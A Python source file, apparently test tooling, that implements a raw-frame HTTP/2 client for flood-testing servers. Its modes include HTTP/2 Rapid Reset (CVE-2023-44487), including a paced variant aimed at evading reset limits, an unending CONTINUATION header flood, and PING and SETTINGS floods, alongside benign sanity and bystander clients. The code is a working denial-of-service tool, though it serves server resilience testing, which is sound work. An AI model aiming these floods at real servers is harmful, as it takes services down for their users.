"""A raw-frame HTTP/2 client (h2c, prior knowledge) for the flood tests.

It writes frames by hand (Python `hyperframe` + `hpack`, the frame and HPACK
layers of the PyPI `h2` package), so it can say things a conforming client
never would, and it reads everything the server sends on a second thread.

Usage:  h2_flood.py HOST:PORT ATTACK [--frames N] [--size BYTES] [--authority A] [--path P]
                                    [--batch PAIRS] [--pause-ms MS]

Attacks (each stops early once the server sent GOAWAY or closed):
  rapid_reset   HEADERS (a complete GET) + RST_STREAM(CANCEL), N times on new
                streams (CVE-2023-44487).
  continuation  HEADERS without END_HEADERS on stream 1, then N CONTINUATION
                frames of --size bytes of header block each, never END_HEADERS
                (the CVE-2024-27316 class).
  ping          N PING frames.
  settings      N SETTINGS frames (each must be ACKed).
  big_headers   one GET whose header list is about --size bytes (split over
                HEADERS + CONTINUATION within the 16 KiB frame size), END_STREAM.
  get           one well-behaved GET (a sanity check of the client itself).
  steady        N well-behaved GETs one after the other on one connection
                (the bystander during a flood).

Prints one JSON object: attack, frames_sent, goaway (null or {code, name,
last_stream_id, debug}), rst_stream (count), rst_codes, status (the :status
of stream 1, if any), responses and ok_responses (how many streams got a
response head, and how many of them 200), pings_acked, settings_acked, closed (the server closed
the connection), seconds.
"""

import argparse
import json
import socket
import sys
import threading
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERROR_NAMES = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
    4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM",
    8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR", 11: "ENHANCE_YOUR_CALM",
    12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED",
}
MAX_FRAME = 16384  # the RFC 9113 default; servers may not lower it


class Conn:
    def __init__(self, host, port):
        self.sock = socket.create_connection((host, port), timeout=30)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.send_lock = threading.Lock()
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.goaway = None
        self.rst_codes = {}
        self.statuses = {}  # stream id -> :status of its response
        self.reset_streams = set()
        self.pings_acked = 0
        self.settings_acked = 0
        self.closed = threading.Event()
        self.server_settings_acked = threading.Event()
        self.frames_sent = 0
        self.reader = threading.Thread(target=self.read_loop, daemon=True)

    def start(self):
        self.send(PREFACE + SettingsFrame(0).serialize(), frames=0)
        self.reader.start()

    def send(self, data, frames=1):
        with self.send_lock:
            self.sock.sendall(data)
        self.frames_sent += frames

    def stopped(self):
        return self.goaway is not None or self.closed.is_set()

    def recv_exact(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    def read_loop(self):
        try:
            while True:
                frame, length = Frame.parse_frame_header(memoryview(self.recv_exact(9)))
                frame.parse_body(memoryview(self.recv_exact(length)))
                self.on_frame(frame)
        except (EOFError, OSError, ValueError):
            pass
        finally:
            self.closed.set()

    def on_frame(self, frame):
        if isinstance(frame, GoAwayFrame):
            self.goaway = {
                "code": frame.error_code,
                "name": ERROR_NAMES.get(frame.error_code, str(frame.error_code)),
                "last_stream_id": frame.last_stream_id,
                "debug": bytes(frame.additional_data).decode("latin-1"),
            }
        elif isinstance(frame, RstStreamFrame):
            name = ERROR_NAMES.get(frame.error_code, str(frame.error_code))
            self.rst_codes[name] = self.rst_codes.get(name, 0) + 1
            self.reset_streams.add(frame.stream_id)
        elif isinstance(frame, SettingsFrame):
            if "ACK" in frame.flags:
                self.settings_acked += 1
            else:
                ack = SettingsFrame(0)
                ack.flags.add("ACK")
                try:
                    self.send(ack.serialize(), frames=0)
                except OSError:
                    pass
                self.server_settings_acked.set()
        elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
            self.pings_acked += 1
        elif isinstance(frame, HeadersFrame) and "END_HEADERS" in frame.flags:
            # Every block is decoded, in order, to keep the HPACK table in step.
            headers = dict(self.decoder.decode(bytes(frame.data)))
            status = headers.get(":status", headers.get(b":status"))
            if status is not None and frame.stream_id not in self.statuses:
                self.statuses[frame.stream_id] = int(status)
        elif isinstance(frame, DataFrame) and frame.flow_controlled_length > 0:
            # Give the window back so responses never stall on it.
            n = frame.flow_controlled_length
            try:
                self.send(WindowUpdateFrame(0, window_increment=n).serialize()
                          + WindowUpdateFrame(frame.stream_id, window_increment=n).serialize(), frames=0)
            except OSError:
                pass

    def request_block(self, authority, path, extra=()):
        headers = [(":method", "GET"), (":scheme", "http"), (":authority", authority), (":path", path)]
        return self.encoder.encode(headers + list(extra))


def headers_frame(stream_id, block, flags):
    f = HeadersFrame(stream_id)
    f.data = block
    for flag in flags:
        f.flags.add(flag)
    return f.serialize()


def continuation_frame(stream_id, block, flags=()):
    f = ContinuationFrame(stream_id)
    f.data = block
    for flag in flags:
        f.flags.add(flag)
    return f.serialize()


def rapid_reset(c, args):
    # --batch pairs per write; with --pause-ms between writes the server
    # has accepted each stream before its reset arrives (the variant that a
    # limit on resets of not-yet-accepted streams does not see).
    batch = args.batch
    stream_id = 1
    while c.frames_sent < args.frames and not c.stopped():
        if args.pause_ms:
            time.sleep(args.pause_ms / 1000)
        out = []
        for _ in range(batch):
            out.append(headers_frame(stream_id, c.request_block(args.authority, args.path), ("END_HEADERS", "END_STREAM")))
            out.append(RstStreamFrame(stream_id, error_code=8).serialize())
            stream_id += 2
        c.send(b"".join(out), frames=2 * batch)


def continuation(c, args):
    # Our SETTINGS ACK must not fall inside the header block (that would be
    # a plain PROTOCOL_ERROR, not a flood): answer the server's first.
    c.server_settings_acked.wait(10)
    c.send(headers_frame(1, c.request_block(args.authority, args.path), ()))
    # Each CONTINUATION carries complete literal fields (never indexed), so
    # a server that decodes as it goes keeps finding new headers.
    i = 0
    while c.frames_sent < args.frames and not c.stopped():
        out = []
        for _ in range(20):
            field = hpack.Encoder().encode([(f"x-flood-{i}", "v" * max(args.size - 20, 1))], huffman=False)
            out.append(continuation_frame(1, field[:MAX_FRAME]))
            i += 1
        c.send(b"".join(out), frames=20)


def ping(c, args):
    n = 0
    while c.frames_sent < args.frames and not c.stopped():
        out = [PingFrame(0, opaque_data=(n + k).to_bytes(8, "big")).serialize() for k in range(100)]
        n += 100
        c.send(b"".join(out), frames=100)


def settings(c, args):
    frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
    while c.frames_sent < args.frames and not c.stopped():
        c.send(frame * 100, frames=100)


def big_headers(c, args):
    block = c.request_block(args.authority, args.path, [("x-big", "b" * args.size)])
    chunks = [block[i : i + MAX_FRAME] for i in range(0, len(block), MAX_FRAME)]
    first_flags = ("END_STREAM",) + (("END_HEADERS",) if len(chunks) == 1 else ())
    out = [headers_frame(1, chunks[0], first_flags)]
    for k, chunk in enumerate(chunks[1:], 1):
        out.append(continuation_frame(1, chunk, ("END_HEADERS",) if k == len(chunks) - 1 else ()))
    c.send(b"".join(out), frames=len(out))
    wait_for(c, lambda: 1 in c.statuses or c.rst_codes or c.stopped())


def get(c, args):
    c.send(headers_frame(1, c.request_block(args.authority, args.path), ("END_HEADERS", "END_STREAM")))
    wait_for(c, lambda: 1 in c.statuses or c.rst_codes or c.stopped())


def steady(c, args):
    # A well-behaved client: --frames requests one after the other on new
    # streams of one connection, each waiting for its response.
    for i in range(args.frames):
        stream_id = 2 * i + 1
        if c.stopped():
            return
        c.send(headers_frame(stream_id, c.request_block(args.authority, args.path), ("END_HEADERS", "END_STREAM")))
        wait_for(c, lambda: stream_id in c.statuses or stream_id in c.reset_streams or c.stopped())


def wait_for(c, predicate, seconds=10):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not predicate():
        time.sleep(0.01)


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "ping": ping,
    "settings": settings,
    "big_headers": big_headers,
    "get": get,
    "steady": steady,
}


def main():
    p = argparse.ArgumentParser()
    p.add_argument("target")
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--frames", type=int, default=100_000)
    p.add_argument("--size", type=int, default=1024)
    p.add_argument("--authority", default="localhost")
    p.add_argument("--path", default="/")
    p.add_argument("--batch", type=int, default=50)
    p.add_argument("--pause-ms", type=float, default=0)
    args = p.parse_args()
    host, port = args.target.rsplit(":", 1)

    started = time.monotonic()
    c = Conn(host, int(port))
    c.start()
    try:
        ATTACKS[args.attack](c, args)
    except OSError:
        pass  # the server closed on us mid-flood: what happened is in the report
    if args.attack not in ("get", "big_headers", "steady"):
        # Whatever the server answers to the last frames of a flood (GOAWAY,
        # close) arrives shortly after; give it time, then report.
        wait_for(c, c.stopped, seconds=5)
    report = {
        "attack": args.attack,
        "frames_sent": c.frames_sent,
        "goaway": c.goaway,
        "rst_stream": sum(c.rst_codes.values()),
        "rst_codes": c.rst_codes,
        "status": c.statuses.get(1),
        "responses": len(c.statuses),
        "ok_responses": sum(1 for v in c.statuses.values() if v == 200),
        "pings_acked": c.pings_acked,
        "settings_acked": c.settings_acked,
        "closed": c.closed.is_set(),
        "seconds": round(time.monotonic() - started, 3),
    }
    print(json.dumps(report), flush=True)
    try:
        c.sock.close()
    except OSError:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
